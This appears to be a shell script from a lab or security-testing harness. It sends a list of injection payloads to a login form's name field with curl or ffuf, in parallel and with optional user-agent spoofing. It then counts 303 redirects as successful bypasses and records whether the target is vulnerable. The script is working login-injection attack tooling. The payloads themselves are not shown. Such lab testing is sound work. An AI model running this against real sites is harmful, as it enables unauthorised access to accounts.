# Send the injections of the list to the login page. Who is let in is led to another page.
. /usr/local/lib/lab/inject.sh
await marked
phase inject
while IFS= read -r injection; do
	printf '%s' "$injection" | disguise
	echo
done <injections >encoded

curl_() {
	export browser site
	xargs -P "$PARALLEL" -n 1 sh -c 'sleep "$PAUSE"; curl -sS ${browser:+-A "$browser"} -o /dev/null -w "%{http_code}\n" \
		-d "name=$1&password=x" "$site/enter.php"' - <encoded
}

ffuf_() {
	ffuf -X POST -H 'Content-Type: application/x-www-form-urlencoded' ${browser:+-H "User-Agent: $browser"} -H 'Connection: close' \
		-mc all -t "$PARALLEL" -p "$PAUSE" -w encoded:INJECTION -d 'name=INJECTION&password=x' -u "$site/enter.php" </dev/null |
		sed -n 's/.*\[Status: \([0-9]*\),.*/\1/p'
}

"${IMPLEMENTATION}_" >codes 2>said || true
tail -n 5 said >&2
sort codes | uniq -c
entered=$(grep -c 303 codes || true)
outcome vulnerable="$([ "$entered" = 0 ] && echo no || echo yes)"
outcome tried="$(wc -l <codes)"
outcome stolen="$([ "$entered" = 0 ] && echo none || echo "$entered")"
signal done
